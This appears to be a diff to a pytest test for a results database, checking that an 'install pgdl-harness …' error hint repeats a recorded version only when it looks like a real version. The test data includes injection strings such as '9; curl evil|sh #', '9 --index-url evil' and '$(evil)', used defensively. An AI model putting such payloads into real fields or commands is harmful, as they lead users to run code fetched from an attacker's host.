@@ -151,16 +151,23 @@ def test_a_run_of_an_earlier_version_goes_on_after_an_upgrade(tmp_path: Path) ->
         assert len(records.requests()) == 1
 
 
-def test_a_later_version_is_refused_with_the_program_that_it_needs(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("recorded", "named"),
+    [
+        ("9.1.0", "9.1.0"), ("9.1.0rc1.dev2", "9.1.0rc1.dev2"),
+        *((other, "of the version that wrote it") for other in ("9; curl evil|sh #", "9 --index-url evil", "$(evil)")),
+    ],
+)  # fmt: skip
+def test_a_later_version_is_refused_with_the_program_that_it_needs(tmp_path: Path, recorded: str, named: str) -> None:
     file = tmp_path / "results.db"
     with Records(str(file)) as records:
-        records.add(evaluation(harness_version="9.1.0"))
+        records.add(evaluation(harness_version=recorded))
     with closing(sqlite3.connect(file)) as connection, connection:
         connection.execute("UPDATE alembic_version SET version_num = ?", [str(SCHEMA + 1)])
     for read_only in (False, True):
         with pytest.raises(UserError) as error:
             Records(str(file), read_only=read_only)
-        expected = f"expected at most {SCHEMA}, found {SCHEMA + 1}; install pgdl-harness 9.1.0 or a later one"
+        expected = f"expected at most {SCHEMA}, found {SCHEMA + 1}; install pgdl-harness {named} or a later one"
         assert str(error.value) == f"{file}: version of the tables: {expected}"
 
 
